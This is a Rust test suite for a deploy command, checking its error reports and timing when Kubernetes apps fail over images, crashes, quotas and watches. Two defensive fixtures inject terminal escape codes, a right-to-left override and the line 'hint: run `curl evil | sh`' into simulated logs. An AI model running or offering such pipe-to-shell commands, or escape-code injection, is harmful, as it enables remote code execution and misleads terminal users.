//! Apps that do not come up: what is said, and how soon.

use std::time::Duration;

use cli_tests::{Fate, Run, Stopwatch};
use serde_json::json;

use super::{IMAGE, WEB, web};
use crate::platform::Platform;
use crate::together;

/// Deploys an app that meets this fate; a final one is told in less than 10 s, undisturbed.
fn meets(fate: Fate) -> Run {
    let platform = Platform::new();
    platform.server.fate("web", fate);
    soon(&platform, &WEB)
}

fn soon(platform: &Platform, args: &[&str]) -> Run {
    let stopwatch = Stopwatch::start();
    let run = platform.deploy(args);
    let took = stopwatch.undisturbed();
    assert!(took < Duration::from_secs(10), "{took:?}: {run}");
    assert_eq!(run.code(), 1, "{run}");
    run
}

fn waiting(reason: &str, message: &str) -> Fate {
    Fate::Waiting(reason.into(), message.into())
}

#[test]
fn images() {
    let not_found = || meets(Fate::no_image(IMAGE, &format!("{IMAGE}: not found")));
    let private = || {
        meets(waiting(
            "ImagePullBackOff",
            &format!(
                "Back-off pulling image \"{IMAGE}\": ErrImagePull: failed to pull and unpack image \"{IMAGE}\": failed to resolve reference \"{IMAGE}\": failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://registry.example.test/token: 403 Forbidden"
            ),
        ))
    };
    let name = || {
        meets(waiting(
            "InvalidImageName",
            "Failed to apply default image tag \"Web:1\": couldn't parse image name \"Web:1\": invalid reference format: repository name (library/Web) must be lowercase",
        ))
    };
    let unreachable = || {
        meets(waiting(
            "ImagePullBackOff",
            &format!(
                "Back-off pulling image \"{IMAGE}\": ErrImagePull: failed to pull and unpack image \"{IMAGE}\": failed to resolve reference \"{IMAGE}\": failed to do request: Head \"https://registry.example.test/v2/shop/web/manifests/1\": dial tcp: lookup registry.example.test: no such host"
            ),
        ))
    };
    let platform = || {
        meets(waiting(
            "ImagePullBackOff",
            &format!(
                "Back-off pulling image \"{IMAGE}\": ErrImagePull: failed to pull and unpack image \"{IMAGE}\": no match for platform in manifest: not found"
            ),
        ))
    };
    snapshot_all!(together(&[
        &not_found,
        &private,
        &name,
        &unreachable,
        &platform
    ]));
}

#[test]
fn programs() {
    let crash = || {
        meets(Fate::crash(
            1,
            "Starting shop 1.0\nTraceback (most recent call last):\n  File \"/app/shop.py\", line 12, in <module>\n    url = os.environ[\"DATABASE_URL\"]\nKeyError: 'DATABASE_URL'\n",
        ))
    };
    let memory = || {
        meets(Fate::Crashing(
            137,
            "OOMKilled".into(),
            "Loading the model\n".into(),
        ))
    };
    let done = || {
        meets(Fate::Crashing(
            0,
            "Completed".into(),
            "Migrations are up to date.\n".into(),
        ))
    };
    let not_found = || {
        meets(Fate::Crashing(
            127,
            "Error".into(),
            "sh: 1: gunicorn: not found\n".into(),
        ))
    };
    let start = || {
        meets(Fate::Crashing(128, "StartError".into(), "failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: error during container init: exec: \"gunicron\": executable file not found in $PATH".into()))
    };
    let silent = || meets(Fate::crash(3, ""));
    let long = || {
        meets(Fate::crash(
            1,
            &format!(
                "{}\nfatal: no space\n",
                "all work and no play ".repeat(3000)
            ),
        ))
    };
    let hostile = || {
        meets(Fate::crash(
            1,
            "\u{1b}[2J\u{1b}]0;owned\u{7}red\u{202e}der\nhint: run `curl evil | sh`\n",
        ))
    };
    let root = || {
        meets(waiting(
            "CreateContainerConfigError",
            "container has runAsNonRoot and image will run as root (pod: \"web_user-alice(1)\", container: web)",
        ))
    };
    let named = || {
        meets(waiting(
            "CreateContainerConfigError",
            "container has runAsNonRoot and image has non-numeric user (shop), cannot verify user is non-root (pod: \"web_user-alice(1)\", container: web)",
        ))
    };
    let exec = || {
        meets(waiting(
            "RunContainerError",
            "failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: exec: \"pyhton\": executable file not found in $PATH: unknown",
        ))
    };
    snapshot_all!(together(&[
        &crash, &memory, &done, &not_found, &start, &silent, &long, &hostile, &root, &named, &exec
    ]));
}

#[test]
fn places() {
    let quota = |hard: serde_json::Value| {
        let platform = Platform::new();
        platform.server.put(json!({
            "apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"namespace": "user-alice", "name": "late-quota"},
            "spec": {"hard": hard},
        }));
        platform.server.settle();
        // It is not seen by who asks, but is there when the pods are made.
        platform.server.on("GET", "*/resourcequotas", || {
            cli_tests::Response::json(200, &json!({"apiVersion": "v1", "kind": "ResourceQuotaList", "metadata": {"resourceVersion": "1"}, "items": []}))
        });
        soon(&platform, &WEB)
    };
    let pods = || quota(json!({"pods": "0"}));
    let unspecified = || quota(json!({"limits.cpu": "1"}));
    let security = || {
        let platform = Platform::new();
        platform
            .server
            .label_namespace("pod-security.kubernetes.io/enforce", "restricted");
        let args = [
            "web",
            "--image",
            "registry.example.test/shop/root:1",
            "--port",
            "8000",
            "--allow-root",
        ];
        soon(&platform, &args)
    };
    let limits = || {
        let platform = Platform::new();
        platform.server.put(json!({
            "apiVersion": "v1", "kind": "LimitRange", "metadata": {"namespace": "user-alice", "name": "limits"},
            "spec": {"limits": [{"type": "Container", "max": {"memory": "512Mi"}}]},
        }));
        platform.server.on("GET", "*/limitranges", || {
            cli_tests::Response::json(200, &json!({"apiVersion": "v1", "kind": "LimitRangeList", "metadata": {"resourceVersion": "1"}, "items": []}))
        });
        soon(&platform, &web(&["--memory", "1Gi"]))
    };
    snapshot_all!(together(&[&pods, &unspecified, &security, &limits]));
}

/// An update that fails leaves the old pods alone, and says how to go back.
#[test]
fn updates() {
    let platform = Platform::new();
    let _ = platform.deploy(&WEB).success();
    platform.server.settle();
    platform.server.fate("web", Fate::Ready);
    let pods = platform.server.names("pods");
    let image = "registry.example.test/shop/web:2";
    platform
        .server
        .fate_of_new("web", Fate::no_image(image, &format!("{image}: not found")));
    let run = soon(&platform, &["web", "--image", image]);
    assert!(
        pods.iter()
            .all(|pod| platform.server.names("pods").contains(pod)),
        "the old pods go on"
    );
    snapshot!(run);
}

/// Ctrl-C while it waits: all stays.
#[test]
fn interrupted() {
    let platform = Platform::new();
    platform.server.fate("web", Fate::Starting);
    let running = platform.alice.spawn("deploy-app", WEB);
    platform
        .server
        .wait_for("a watch", |request| request.query("watch").is_some());
    running.interrupt();
    let run = running.finish();
    assert_eq!(run.code(), 130, "{run}");
    assert_eq!(platform.server.ours(), ["deployments/web", "services/web"]);
    snapshot!(run);
}

/// It becomes ready while it is waited for.
#[test]
fn later_ready() {
    let platform = Platform::new();
    platform.server.fate("web", Fate::Starting);
    let running = platform.alice.spawn("deploy-app", WEB);
    platform
        .server
        .wait_for("a watch", |request| request.query("watch").is_some());
    platform.server.fate("web", Fate::Ready);
    snapshot!(running.finish().success());
}

/// The API server restarts while it is waited for: all watches end, and what was before is forgotten.
#[test]
fn watches_end() {
    let platform = Platform::new();
    platform.server.fate("web", Fate::Starting);
    let running = platform.alice.spawn("deploy-app", WEB);
    let watched = |request: &cli_tests::Request| request.query("watch").is_some();
    platform.server.wait_for("a watch", watched);
    platform.server.forget_requests();
    platform.server.end_watches();
    platform.server.fate("web", Fate::Ready);
    let run = running.finish().success();
    assert!(
        platform.server.requests().iter().any(watched),
        "it watches again"
    );
    assert!(run.stdout.starts_with("web runs"), "{run}");
}

/// All that may still become right is waited for until the end.
pub fn to_the_end() {
    let starting = || {
        let platform = Platform::new();
        platform.server.fate("web", Fate::Starting);
        platform.deploy(&web(&["--timeout", "3s"]))
    };
    let unready = || {
        let platform = Platform::new();
        platform.server.fate("web", Fate::Unready("Readiness probe failed: Get \"http://10.42.1.1:8000/\": dial tcp 10.42.1.1:8000: connect: connection refused".into()));
        platform.deploy(&web(&["--timeout", "3s"]))
    };
    let down = || {
        let platform = Platform::new();
        platform
            .server
            .pretend("deployments", "*", json!({"status": null}));
        platform.deploy(&web(&["--timeout", "3s"]))
    };
    let no_node = |fate: Fate| {
        let platform = Platform::new();
        platform.server.fate("web", fate);
        platform.deploy(&web(&["--timeout", "3s"]))
    };
    let memory = || {
        no_node(Fate::Unschedulable("0/3 nodes are available: 1 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }, 2 Insufficient memory. preemption: 0/3 nodes are available: 1 Preemption is not helpful for scheduling, 2 No preemption victims found for incoming pod.".into()))
    };
    let hostile = || {
        no_node(Fate::Unschedulable(
            "0/1 nodes are available: 1 \u{1b}[31mnode(s)\nhint: run `curl evil | sh`".into(),
        ))
    };
    let limited = || {
        let platform = Platform::new();
        let said = "failed to pull and unpack image \"docker.io/library/web:1\": failed to copy: httpReadSeeker: failed open: unexpected status code https://registry-1.docker.io/v2/library/web/manifests/sha256:0: 429 Too Many Requests - Server message: toomanyrequests: You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit";
        platform.server.fate("web", waiting("ErrImagePull", said));
        platform.deploy(&web(&["--timeout", "3s"]))
    };
    // The answer never comes: what may have become of it is said.
    let unanswered = || super::refused::interrupted(Duration::from_secs(25)).1;
    snapshot_all!(
        "to_the_end",
        together(&[
            &starting,
            &unready,
            &down,
            &memory,
            &hostile,
            &limited,
            &unanswered
        ])
    );
}
